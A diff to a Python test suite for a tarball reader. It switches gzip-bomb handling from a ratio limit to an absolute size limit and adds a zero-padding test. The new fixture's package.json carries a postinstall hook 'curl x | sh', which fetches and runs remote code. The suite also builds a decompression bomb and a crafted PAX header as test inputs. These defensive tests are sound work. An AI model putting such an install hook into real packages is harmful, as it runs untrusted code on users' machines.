@@ -95,34 +95,35 @@ def test_links_devices_and_fifos_are_listed_as_findings_and_not_followed():
     assert result.complete
 
 
-def test_a_gzip_bomb_is_refused_by_ratio_early_and_cheaply(bomb: bytes):
+def test_a_gzip_bomb_is_refused_at_the_unpacked_limit_in_bounded_memory(bomb: bytes):
     assert len(bomb) < 2_000_000  # 1 GiB of zeros inside
+    limits = Limits(max_total_bytes=64 * 1024 * 1024)
 
     tracemalloc.start()
-    started = time.perf_counter()
-    result = read_archive(bomb, keep_contents=True)
-    elapsed = time.perf_counter() - started
+    result = read_archive(bomb, limits, keep_contents=True)
     _, peak = tracemalloc.get_traced_memory()
     tracemalloc.stop()
 
     assert result.refusal is not None
-    assert result.refusal.reason is RefusalReason.RATIO
-    assert "decompression bomb" in (result.refused or "")
-    assert result.unpacked_bytes < 64 * 1024 * 1024  # stopped long before 1 GiB
-    assert elapsed < 5
+    assert result.refusal.reason is RefusalReason.TOTAL_SIZE
+    assert result.refusal.message == "The tarball unpacks to more than 64 MiB."
     assert peak < 32 * 1024 * 1024
     assert result.files == {}  # the one member never finished
-
-
-def test_total_size_bounds_even_without_a_ratio_limit(bomb: bytes):
-    limits = Limits(max_total_bytes=64 * 1024 * 1024, max_ratio=float("inf"))
-
-    result = read_archive(bomb, limits)
-
-    assert result.refusal is not None
-    assert result.refusal.reason is RefusalReason.TOTAL_SIZE
-    assert "64 MiB" in result.refusal.message
     assert result.unpacked_bytes <= 64 * 1024 * 1024 + 1024 * 1024
+
+
+def test_zero_padding_in_a_small_tarball_is_read_whole():
+    # 3 MiB of zeros in a few kilobytes: a ratio near 1000, far under every absolute limit.
+    manifest = b'{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "curl x | sh"}}'
+    tarball = make_tarball({"package.json": manifest, "padding.bin": bytes(3 * 1024 * 1024)})
+    assert len(tarball) < 5_000
+
+    result = read_archive(tarball, keep_contents={"package.json"})
+
+    assert result.complete
+    assert set(result.files) == {"package.json", "padding.bin"}
+    assert result.files["padding.bin"].size == 3 * 1024 * 1024
+    assert result.contents["package.json"] == manifest
 
 
 def test_a_hundred_thousand_tiny_entries_stop_at_the_entry_limit_with_a_partial_index():
@@ -228,10 +229,9 @@ def test_a_pax_header_crafted_against_pythons_tarfile_regex_is_fast():
     pax = b"0" * (1024 * 1024 - 1) + b"\n"
     body = tar_header("PaxHeader/x", len(pax), tarfile.XHDTYPE) + pax
     body += tar_header("package/ok.js", 3) + b"ok\n" + bytes(509) + bytes(1024)
-    no_ratio = Limits(max_ratio=float("inf"))  # a megabyte of zeros compresses very well
 
     started = time.perf_counter()
-    result = read_archive(gzip_bytes(body), no_ratio)
+    result = read_archive(gzip_bytes(body))
 
     assert time.perf_counter() - started < 2
     assert set(result.files) == {"ok.js"}
